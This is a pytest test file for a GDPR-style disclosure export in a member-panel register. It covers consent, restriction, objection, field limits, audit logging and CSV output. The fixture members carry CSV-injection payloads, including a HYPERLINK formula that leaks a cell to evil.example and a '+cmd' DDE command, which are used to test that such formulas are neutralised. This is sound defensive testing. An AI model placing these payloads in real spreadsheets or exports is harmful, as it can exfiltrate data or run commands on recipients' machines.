"""export disclosure: exactly what policies/disclosure.yaml allows, to whom, and a log of it.

Only admitted members who are not restricted, have no objection that covers
the purpose (test_objections.py tells the two kinds apart) and hold the
consent the purpose requires; only member_id and the recipient's fields.
CSV cells a spreadsheet would run as formulas are neutralised. The file is new
and 0600; --dry-run discloses and logs nothing. Every disclosed member gets a
disclosure-log entry that the access export lists; the export is audited.
"""

from __future__ import annotations

import csv
import json
import re
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from kss_panel.services import access, disclosure
from kss_panel.record import flatten, value_at, values_at
from kss_panel.writers import csv_cell, neutralise
from support import NOW, POLICIES_DIR, Builder, Register, person

SHIPPED = yaml.safe_load((POLICIES_DIR / "disclosure.yaml").read_text(encoding="utf-8"))["recipients"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'

# A recipient outside the EU/EEA, appended to a copy of the shipped policy.
OVERSEAS = """
  survey-cloud:
    name: Example Survey Cloud Inc.
    category: {{fi: Kyselypalvelu, sv: Enkättjänst, en: Survey service}}
    role: processor
    country: US
{safeguard}    purposes:
      market_research: {{consent: none}}
    fields:
      - contact.first_name
      - contact.email
"""
# A recipient that receives postal addresses (free text), to show street cells are neutralised too.
LETTER_SHOP = """
  letter-shop:
    name: Esimerkki Kirjepaino Oy
    category: {fi: Kirjepaino, sv: Brevtryckeri, en: Letter printer}
    role: processor
    country: FI
    purposes:
      communication: {consent: none}
    fields:
      - contact.first_name
      - contact.street_address
      - contact.postal_code
      - contact.city
"""

# A recipient of survey samples, which receives a list (hobbies) and an integer (birth year) for market research.
SURVEY_HOUSE = """
  survey-house:
    name: Esimerkki Tutkimus Oy
    category: {fi: Tutkimuslaitos, sv: Undersökningsinstitut, en: Research agency}
    role: processor
    country: FI
    purposes:
      market_research: {consent: none}
    fields:
      - contact.first_name
      - contact.email
      - contact.city
      - demographics.birth_year
      - hobbies
"""


STREET = "Kauppamiehenkatu 5"
EMAIL = ("email_marketing", "marketing_competitions")
PEOPLE: dict[str, dict[str, Any]] = {
    "anna": person(1, "Anna", "Aaltonen", given=(*EMAIL, "sms_marketing"), hobbies=["sauna", "fishing"], contact__street_address=STREET,
                   contact__email="anna.aaltonen@example.fi", contact__phone="+358403000001", demographics__birth_year=1971),
    "bertta": person(2, "Bertta", "Berg", given=(), contact__street_address=STREET),
    "cecilia": person(3, "Cecilia", "Carlsson", given=EMAIL),  # admitted, then restricted
    "dora": person(4, "Dora", "Dahl", given=EMAIL),  # admitted, then objected to both direct marketing and processing
    "elsa": person(5, "Elsa", "Eskola", given=(*EMAIL, "sms_marketing")),  # an applicant, never admitted
    "fanni": person(6, "Fanni", "Forsman", given=EMAIL, contact__city=HYPERLINK, contact__street_address="=1+2", hobbies=["=1+1", "sauna"]),
    "greta": person(7, "Greta", "Grönholm", given=EMAIL, contact__city="+cmd|' /C calc'!A0", contact__street_address="+A1"),
    "hilja": person(8, "Hilja", "Heino", given=EMAIL, contact__city="-2+3", contact__street_address="-A1"),
    "ilona": person(9, "Ilona", "Ilves", given=EMAIL, contact__city="@SUM(A1:A2)", contact__street_address="@A1"),
}
ADMITTED = ["anna", "bertta", "cecilia", "dora", "fanni", "greta", "hilja", "ilona"]
DISCLOSABLE = ["anna", "bertta", "fanni", "greta", "hilja", "ilona"]  # not restricted, not objected
WITH_EMAIL_CONSENT = ["anna", "fanni", "greta", "hilja", "ilona"]


def the_panel(b: Builder) -> None:
    """All but elsa admitted; cecilia restricted; dora objected (Art. 21(2) and 21(1))."""
    b.admit(*ADMITTED)
    b.restrict("cecilia", "accuracy-contested")
    b.object("dora", processing=True)


@pytest.fixture
def panel(make_register: Callable[..., Register]) -> Register:
    """Everyone enrolled, admitted, restricted and objected at NOW (the_panel)."""
    return make_register(PEOPLE, NOW, populate=the_panel)


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    return rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def expected_cell(data: dict[str, Any], path: str) -> str:
    section, _, field = path.partition(".")
    value = data[section][field] if field else data[section]
    return ";".join(value) if isinstance(value, list) else str(value)


# --- who is disclosed, and what --------------------------------------------------------------------------------


def test_panel_mailer_receives_admitted_members_not_restricted_nor_objected(panel: Register) -> None:
    result, out = panel.disclose("panel-mailer", "communication")
    assert result.exit_code == 0, result.stderr
    assert result.stdout == (
        "disclosed 6 of 8 members to panel-mailer for communication"
        f" (excluded: 1 restricted, 1 objected, 0 without consent); wrote {out}\n"
    )
    header, rows = read_csv(out)
    assert header == ["member_id", "contact.first_name", "contact.last_name", "contact.email", "contact.language"]
    assert sorted(panel.names[row["member_id"]] for row in rows) == sorted(DISCLOSABLE)
    for row in rows:
        data = PEOPLE[panel.names[row["member_id"]]]
        if panel.names[row["member_id"]] in ("anna", "bertta"):
            assert row == {"member_id": row["member_id"], **{path: expected_cell(data, path) for path in header[1:]}}
    text = out.read_text(encoding="utf-8")
    for name in ("cecilia", "dora", "elsa"):
        assert panel.ids[name] not in text
        assert PEOPLE[name]["contact"]["first_name"] not in text


def test_direct_marketing_requires_the_email_marketing_consent(panel: Register) -> None:
    result, out = panel.disclose("direct-marketing", "marketing", "--json")
    assert result.exit_code == 0, result.stderr
    data = json.loads(result.stdout)["data"]
    assert {k: data[k] for k in ("members", "disclosed", "restricted", "objected", "no_consent", "dry_run")} == {
        "members": 8, "disclosed": 5, "restricted": 1, "objected": 1, "no_consent": 1, "dry_run": False,
    }
    header, rows = read_csv(out)
    assert header == ["member_id", *SHIPPED["direct-marketing"]["fields"]]
    assert sorted(panel.names[row["member_id"]] for row in rows) == sorted(WITH_EMAIL_CONSENT)
    anna = next(row for row in rows if row["member_id"] == panel.ids["anna"])
    assert anna == {"member_id": panel.ids["anna"], **{path: expected_cell(PEOPLE["anna"], path) for path in header[1:]}}
    assert anna["contact.street_address"] == STREET


def test_lists_and_integers_are_cells_of_their_own(panel: Register) -> None:
    panel.custom_policies(SURVEY_HOUSE)
    result, out = panel.disclose("survey-house", "market_research")
    assert result.exit_code == 0, result.stderr
    header, rows = read_csv(out)
    assert header == ["member_id", "contact.first_name", "contact.email", "contact.city", "demographics.birth_year", "hobbies"]
    anna = next(row for row in rows if row["member_id"] == panel.ids["anna"])
    assert anna == {"member_id": panel.ids["anna"], **{path: expected_cell(PEOPLE["anna"], path) for path in header[1:]}}
    assert anna["hobbies"] == "sauna;fishing" and anna["demographics.birth_year"] == "1971"


def disclosed_names(panel: Register, recipient: str, purpose: str) -> list[str]:
    result, out = panel.disclose(recipient, purpose)
    assert result.exit_code == 0, result.stderr
    return sorted(panel.names[row["member_id"]] for row in read_csv(out)[1])


def test_a_withdrawn_consent_takes_the_member_out_of_its_purpose_only(panel: Register) -> None:
    assert panel.run("consent", panel.ids["anna"], "--withdraw", "email_marketing").exit_code == 0
    assert disclosed_names(panel, "direct-marketing", "marketing") == ["fanni", "greta", "hilja", "ilona"]
    # Competitions have a consent of their own: withdrawing email marketing does not touch it.
    assert disclosed_names(panel, "direct-marketing", "competitions") == sorted(WITH_EMAIL_CONSENT)
    assert panel.run("consent", panel.ids["anna"], "--withdraw", "marketing_competitions").exit_code == 0
    assert disclosed_names(panel, "direct-marketing", "competitions") == ["fanni", "greta", "hilja", "ilona"]


def test_the_group_and_partners_need_consents_of_their_own(panel: Register) -> None:
    for recipient in ("group-companies", "partners"):
        for purpose in ("communication", "market_research", "marketing", "competitions"):
            assert disclosed_names(panel, recipient, purpose) == [], (recipient, purpose)
    assert panel.run("consent", panel.ids["bertta"], "--give", "partner_marketing").exit_code == 0
    assert disclosed_names(panel, "partners", "marketing") == ["bertta"]
    assert disclosed_names(panel, "partners", "communication") == []
    assert disclosed_names(panel, "group-companies", "marketing") == []


def test_lifting_a_restriction_makes_the_member_disclosable_again(panel: Register) -> None:
    assert panel.run("restrict", panel.ids["cecilia"], "--lift").exit_code == 0
    result, out = panel.disclose("panel-mailer", "communication")
    assert result.exit_code == 0, result.stderr
    assert panel.ids["cecilia"] in {row["member_id"] for row in read_csv(out)[1]}


@pytest.mark.parametrize(
    ("recipient", "purpose"),
    [(recipient, purpose) for recipient, spec in SHIPPED.items() for purpose in spec.get("purposes", {})],
)
def test_the_header_is_member_id_and_exactly_the_recipients_fields(panel: Register, recipient: str, purpose: str) -> None:
    result, out = panel.disclose(recipient, purpose)
    assert result.exit_code == 0, result.stderr
    header, rows = read_csv(out)
    assert header == ["member_id", *SHIPPED[recipient]["fields"]]
    text = out.read_text(encoding="utf-8")
    allowed = set(SHIPPED[recipient]["fields"])
    for name, data in PEOPLE.items():
        for path, value in (("customer_number", data["customer_number"]), ("contact.phone", data["contact"]["phone"]),
                            ("contact.street_address", data["contact"]["street_address"]), ("contact.email", data["contact"]["email"])):
            if path not in allowed:
                assert value not in text, (recipient, path, name)
    for row in rows:
        assert panel.names[row["member_id"]] not in ("elsa", "cecilia", "dora")


def test_sms_gateway_gets_sms_consenters_with_their_phone_kept_as_is(panel: Register) -> None:
    # +358401234567 starts with '+' but is a plain E.164 number: no formula, so no leading quote.
    result, out = panel.disclose("sms-gateway", "marketing")
    assert result.exit_code == 0, result.stderr
    header, rows = read_csv(out)
    assert header == ["member_id", "contact.first_name", "contact.phone", "contact.language"]
    assert rows == [{"member_id": panel.ids["anna"], "contact.first_name": "Anna", "contact.phone": "+358403000001", "contact.language": "fi"}]


def test_applicants_never_appear(panel: Register) -> None:
    for recipient, purpose in (("panel-mailer", "communication"), ("sms-gateway", "marketing"), ("direct-marketing", "marketing")):
        result, out = panel.disclose(recipient, purpose, out=f"{recipient}.csv")
        assert result.exit_code == 0, result.stderr
        assert panel.ids["elsa"] not in out.read_text()
        assert "Elsa" not in out.read_text()


def test_every_admitted_member_is_read_once_with_their_last_committed_state(panel: Register) -> None:
    """One query reads the admitted members' rows and the state the trail last committed to for each: no member is
    looked up again, and the trail is not asked a few hundred members at a time."""
    statements: list[str] = []
    with panel.session() as session:
        session.store.conn.set_trace_callback(statements.append)
        data = disclosure.disclose(session, "panel-mailer", "communication", NOW, out=panel.dir / "once.csv")
        session.store.conn.set_trace_callback(None)
    assert data["members"] > 1
    reads = [s for s in statements if re.search(r"FROM (members|audit)\b", s) and s.lstrip().upper().startswith("SELECT")]
    assert len(reads) == 2 and "FROM members m WHERE status = 'member'" in reads[0], reads  # the members, then the trail's last link
    assert reads[1].startswith("SELECT seq, at, hash, mac FROM audit")


def test_a_register_of_applicants_only_gives_a_header_and_no_rows(make_register: Callable[..., Register]) -> None:
    reg = make_register({"anna": PEOPLE["anna"]})
    out = reg.dir / "out.csv"
    result = reg.run("export", "disclosure", "panel-mailer", "--purpose", "communication", "--out", str(out))
    assert result.exit_code == 0, result.stderr
    assert read_csv(out) == (["member_id", *SHIPPED["panel-mailer"]["fields"]], [])


def test_a_recipient_given_a_whole_category_never_gets_a_python_repr(panel: Register) -> None:
    # The policy check accepts a category name ("contact") among a recipient's fields. Either it must
    # refuse it (exit 6) or the export must give the category's fields as proper columns: a cell
    # holding "{'first_name': 'Anna', ...}" is no format a recipient can read, and skips neutralisation.
    panel.custom_policies(LETTER_SHOP.replace("letter-shop", "whole-contact").replace(
        "      - contact.first_name\n      - contact.street_address\n      - contact.postal_code\n      - contact.city\n",
        "      - contact\n"))
    result, out = panel.disclose("whole-contact", "communication")
    assert result.exit_code in (0, 6), (result.stdout, result.stderr)
    if result.exit_code == 0:
        header, rows = read_csv(out)
        assert "contact" not in header, header
        text = out.read_text(encoding="utf-8")
        assert "{'" not in text and "{\"" not in text


# --- CSV injection --------------------------------------------------------------------------------------------


def test_formula_cells_are_neutralised_in_csv(panel: Register) -> None:
    result, out = panel.disclose("direct-marketing", "marketing")
    assert result.exit_code == 0, result.stderr
    _, rows = read_csv(out)
    by_name = {panel.names[row["member_id"]]: row for row in rows}
    assert by_name["fanni"]["contact.city"] == "'" + HYPERLINK
    assert by_name["greta"]["contact.city"] == "'+cmd|' /C calc'!A0"
    assert by_name["hilja"]["contact.city"] == "'-2+3"
    assert by_name["ilona"]["contact.city"] == "'@SUM(A1:A2)"
    assert by_name["fanni"]["contact.street_address"] == "'=1+2"
    assert by_name["anna"]["contact.city"] == "Kouvola"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_formula_cells_in_a_list_are_neutralised(panel: Register) -> None:
    panel.custom_policies(SURVEY_HOUSE)
    result, out = panel.disclose("survey-house", "market_research")
    assert result.exit_code == 0, result.stderr
    by_name = {panel.names[row["member_id"]]: row for row in read_csv(out)[1]}
    assert by_name["fanni"]["hobbies"] == "'=1+1;sauna"
    assert by_name["fanni"]["contact.city"] == "'" + HYPERLINK


def test_street_cells_are_neutralised_too(panel: Register) -> None:
    panel.custom_policies(LETTER_SHOP)
    result, out = panel.disclose("letter-shop", "communication")
    assert result.exit_code == 0, result.stderr
    header, rows = read_csv(out)
    assert header == ["member_id", "contact.first_name", "contact.street_address", "contact.postal_code", "contact.city"]
    streets = {panel.names[row["member_id"]]: row["contact.street_address"] for row in rows}
    assert streets == {"anna": "Kauppamiehenkatu 5", "bertta": "Kauppamiehenkatu 5", "fanni": "'=1+2", "greta": "'+A1",
                       "hilja": "'-A1", "ilona": "'@A1"}


def test_json_format_keeps_values_as_they_are(panel: Register) -> None:
    result, out = panel.disclose("direct-marketing", "marketing", "--format", "json", out="out.json")
    assert result.exit_code == 0, result.stderr
    rows = json.loads(out.read_text(encoding="utf-8"))
    assert isinstance(rows, list) and len(rows) == len(WITH_EMAIL_CONSENT)
    for row in rows:
        assert list(row) == ["member_id", *SHIPPED["direct-marketing"]["fields"]]
    by_name = {panel.names[row["member_id"]]: row for row in rows}
    assert by_name["fanni"]["contact.city"] == HYPERLINK  # JSON is not a spreadsheet: no quote added
    assert by_name["anna"]["contact.email"] == "anna.aaltonen@example.fi"

    panel.custom_policies(SURVEY_HOUSE)
    result, out = panel.disclose("survey-house", "market_research", "--format", "json", out="survey.json")
    assert result.exit_code == 0, result.stderr
    by_name = {panel.names[row["member_id"]]: row for row in json.loads(out.read_text(encoding="utf-8"))}
    assert by_name["anna"]["hobbies"] == ["sauna", "fishing"]
    assert by_name["anna"]["demographics.birth_year"] == 1971


def test_json_format_with_nobody_to_disclose_is_an_empty_array(panel: Register) -> None:
    panel.custom_policies(OVERSEAS.format(safeguard="    safeguard: standard-contractual-clauses\n"))
    for name in DISCLOSABLE:
        assert panel.run("restrict", panel.ids[name], "--reason", "legal-claims").exit_code == 0
    result, out = panel.disclose("survey-cloud", "market_research", "--format", "json", out="none.json")
    assert result.exit_code == 0, result.stderr
    assert json.loads(out.read_text()) == []


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
        ("+358401234567", "+358401234567"), ("+358 40 123 4567", "'+358 40 123 4567"), ("Kouvola", "Kouvola"), ("", ""),
    ],
)
def test_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


@given(st.text(max_size=40) | st.from_regex(r"[=+\-@\t\r][0-9 +=]{0,16}", fullmatch=True))
def test_every_text_cell_is_neutralised_as_neutralise_does(cell: str) -> None:
    """The CSV writer's shortcut for text that cannot run as a formula lets through nothing that neutralise would change."""
    assert csv_cell(cell) == neutralise(cell)
    assert csv_cell([cell]) == neutralise(cell)


VALUES = st.none() | st.booleans() | st.integers() | st.text(max_size=5) | st.lists(st.text(max_size=3), max_size=2)
NAMES = st.sampled_from(["contact", "hobbies", "consents", "first_name", "x"])  # names as the policy allows them: identifiers
RECORDS = st.dictionaries(NAMES, VALUES | st.dictionaries(NAMES, VALUES, max_size=3), max_size=4)
PATHS = st.lists(st.builds(lambda a, b, dotted: f"{a}.{b}" if dotted else a, NAMES, NAMES, st.booleans()), max_size=5)


@given(RECORDS, PATHS)
def test_a_recipients_cells_are_the_records_values_at_its_field_paths(record: dict[str, Any], paths: list[str]) -> None:
    """What each cell of a disclosure holds, read with each path split once, is the value at that path (a whole
    category for a path without a dot, None for one that is absent): what a recipient got before the fast path."""
    flat = flatten(record)
    assert values_at(paths)(record) == [value_at(record, path) for path in paths] == [flat.get(path, record.get(path)) for path in paths]


# --- the output file and --dry-run ----------------------------------------------------------------------------


def test_the_output_file_is_0600(panel: Register) -> None:
    result, out = panel.disclose("panel-mailer", "communication")
    assert result.exit_code == 0, result.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_an_existing_output_file_is_never_overwritten(panel: Register) -> None:
    out = panel.dir / "out.csv"
    out.write_text("the officer's other file\n")
    before = panel.tables()
    result, _ = panel.disclose("panel-mailer", "communication", out="out.csv")
    assert result.exit_code == 5, result.stderr
    assert "already exists" in result.stderr and "Traceback" not in result.output
    assert out.read_text() == "the officer's other file\n"
    assert panel.tables() == before


def test_dry_run_prints_counts_and_writes_and_logs_nothing(panel: Register) -> None:
    before = panel.tables()
    result, out = panel.disclose("direct-marketing", "marketing", "--dry-run")
    assert result.exit_code == 0, result.stderr
    assert result.stdout == (
        "would disclose 5 of 8 members to direct-marketing for marketing (excluded: 1 restricted, 1 objected, 1 without consent)\n"
    )
    assert result.stderr == ""
    assert not out.exists()
    assert panel.tables() == before

    result = panel.run("export", "disclosure", "panel-mailer", "--purpose", "communication", "--dry-run", "--json")
    assert result.exit_code == 0, result.stderr
    data = json.loads(result.stdout)["data"]
    assert data["dry_run"] is True and data["disclosed"] == 6 and data["members"] == 8
    assert data["fields"] == SHIPPED["panel-mailer"]["fields"]
    assert panel.tables() == before
    assert not any(p.suffix == ".csv" for p in panel.dir.iterdir())


def test_an_export_without_an_output_file_is_refused(panel: Register) -> None:
    before = panel.tables()
    result = panel.run("export", "disclosure", "panel-mailer", "--purpose", "communication")
    assert result.exit_code == 5
    assert "--out" in result.stderr
    assert panel.tables() == before


# --- refusals -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("recipient", "purpose"),
    [("nobody-we-know", "communication"), ("panel-mailer", "marketing"), ("sms-gateway", "communication"), ("direct-marketing", "market_research"),
     ("hosting", "communication")],
)
def test_a_recipient_or_purpose_the_policy_does_not_allow_exits_9(panel: Register, recipient: str, purpose: str) -> None:
    before = panel.tables()
    for more in ((), ("--dry-run",)):
        result, out = panel.disclose(recipient, purpose, *more)
        assert result.exit_code == 9, (result.stdout, result.stderr)
        assert result.stderr.startswith("kss-panel: error: ")
        assert "Traceback" not in result.output and result.stdout == ""
        assert not out.exists()
        assert panel.tables() == before


def test_a_recipient_outside_the_eea_without_safeguard_is_an_invalid_policy(panel: Register) -> None:
    panel.custom_policies(OVERSEAS.format(safeguard=""))
    before = panel.tables()
    result, out = panel.disclose("survey-cloud", "market_research")
    assert result.exit_code == 6, (result.stdout, result.stderr)
    assert "disclosure.yaml" in result.stderr and "safeguard" in result.stderr
    assert re.search(r"disclosure\.yaml:\d+", result.stderr), result.stderr
    assert not out.exists()
    assert panel.tables() == before
    # Every other command refuses the invalid policy too, so no export to anyone.
    assert panel.disclose("panel-mailer", "communication", out="other.csv")[0].exit_code == 6


def test_a_recipient_outside_the_eea_with_standard_contractual_clauses_works(panel: Register) -> None:
    panel.custom_policies(OVERSEAS.format(safeguard="    safeguard: standard-contractual-clauses\n"))
    result, out = panel.disclose("survey-cloud", "market_research")
    assert result.exit_code == 0, result.stderr
    header, rows = read_csv(out)
    assert header == ["member_id", "contact.first_name", "contact.email"]
    assert sorted(panel.names[row["member_id"]] for row in rows) == sorted(DISCLOSABLE)


# --- the disclosure log and the audit trail -------------------------------------------------------------------


def test_every_disclosed_member_gets_a_log_entry_that_the_access_export_lists(panel: Register) -> None:
    audit_before = len(panel.json("audit", "log"))
    result, out = panel.disclose("direct-marketing", "marketing")
    assert result.exit_code == 0, result.stderr
    logged = panel.sql("SELECT member_id, recipient, purpose, fields, disclosed_on FROM disclosures ORDER BY id")
    assert sorted(panel.names[row[0]] for row in logged) == sorted(WITH_EMAIL_CONSENT)
    assert {(r[1], r[2], r[3]) for r in logged} == {("direct-marketing", "marketing", json.dumps(SHIPPED["direct-marketing"]["fields"]))}
    day = logged[0][4]
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", day) and {r[4] for r in logged} == {day}

    entries = panel.json("audit", "log")[audit_before:]
    assert [e["action"] for e in entries] == ["export-disclosure"]
    entry = entries[0]
    assert entry["member_id"] is None and entry["actor"] == "desk"
    assert entry["fields"] == SHIPPED["direct-marketing"]["fields"]
    assert entry["detail"] == {"recipient": "direct-marketing", "purpose": "marketing", "members": 5}

    anna = panel.json("export", "access", panel.ids["anna"])
    assert [{k: d[k] for k in ("recipient", "purpose", "fields", "date")} for d in anna["disclosures"]] == [
        {"recipient": "direct-marketing", "purpose": "marketing", "fields": SHIPPED["direct-marketing"]["fields"], "date": day}
    ]
    assert anna["disclosures"][0]["country"] == "FI"
    for name in ("bertta", "cecilia", "dora", "elsa"):  # no consent, restricted, objected, applicant
        assert panel.json("export", "access", panel.ids[name])["disclosures"] == [], name


def test_the_log_grows_with_each_disclosure(panel: Register) -> None:
    assert panel.disclose("panel-mailer", "communication", out="a.csv")[0].exit_code == 0
    assert panel.disclose("sms-gateway", "marketing", out="b.csv")[0].exit_code == 0
    anna = panel.json("export", "access", panel.ids["anna"])
    assert [(d["recipient"], d["purpose"]) for d in anna["disclosures"]] == [("panel-mailer", "communication"), ("sms-gateway", "marketing")]
    assert panel.sql("SELECT count(*) FROM disclosures")[0][0] == len(DISCLOSABLE) + 1
    bertta = panel.json("export", "access", panel.ids["bertta"])
    assert [(d["recipient"], d["fields"]) for d in bertta["disclosures"]] == [("panel-mailer", SHIPPED["panel-mailer"]["fields"])]


def test_the_disclosure_log_date_is_the_day_of_the_export(panel: Register) -> None:
    with panel.session() as session:
        out = panel.dir / "mailing.json"
        summary = disclosure.disclose(session, "panel-mailer", "communication", NOW, out=out, format_="json")
        rows = json.loads(out.read_text())
        assert summary["disclosed"] == len(rows) == len(DISCLOSABLE)
        assert all(list(row) == ["member_id", *SHIPPED["panel-mailer"]["fields"]] for row in rows)
        export = access.access_export(session, panel.ids["anna"], NOW)["document"]
    assert export["disclosures"] == [{
        "recipient": "panel-mailer", "recipient_name": SHIPPED["panel-mailer"]["name"], "country": "FI",
        "purpose": "communication", "fields": SHIPPED["panel-mailer"]["fields"], "date": "2025-06-15",
    }]


def test_no_disclosure_is_logged_when_the_export_fails(panel: Register) -> None:
    before = panel.tables()
    out = panel.dir / "missing-dir" / "out.csv"
    result = panel.run("export", "disclosure", "panel-mailer", "--purpose", "communication", "--out", str(out))
    assert result.exit_code == 5, (result.stdout, result.stderr)
    assert panel.tables() == before


def test_the_access_export_names_exactly_the_recipients_that_export_disclosure_serves(panel: Register) -> None:
    """Art. 15(1)(c): "will be disclosed to" is what `export disclosure` really does, member by member."""
    assert panel.run("consent", panel.ids["bertta"], "--give", "group_market_research").exit_code == 0
    served: dict[str, set[tuple[str, str]]] = {name: set() for name in PEOPLE}
    for recipient, spec in SHIPPED.items():
        for purpose in spec.get("purposes", {}):
            for name in disclosed_names(panel, recipient, purpose):
                served[name].add((recipient, purpose))
    for name in PEOPLE:
        export = panel.json("export", "access", panel.ids[name])
        promised = {(r["recipient"], p["purpose"]) for r in export["recipients"] if not r["held_by_restriction"] for p in r["purposes"]}
        assert promised == served[name], name
    assert ("group-companies", "market_research") in served["bertta"]
    assert served["elsa"] == served["cecilia"] == served["dora"] == set()  # an applicant, a restricted and an objecting member
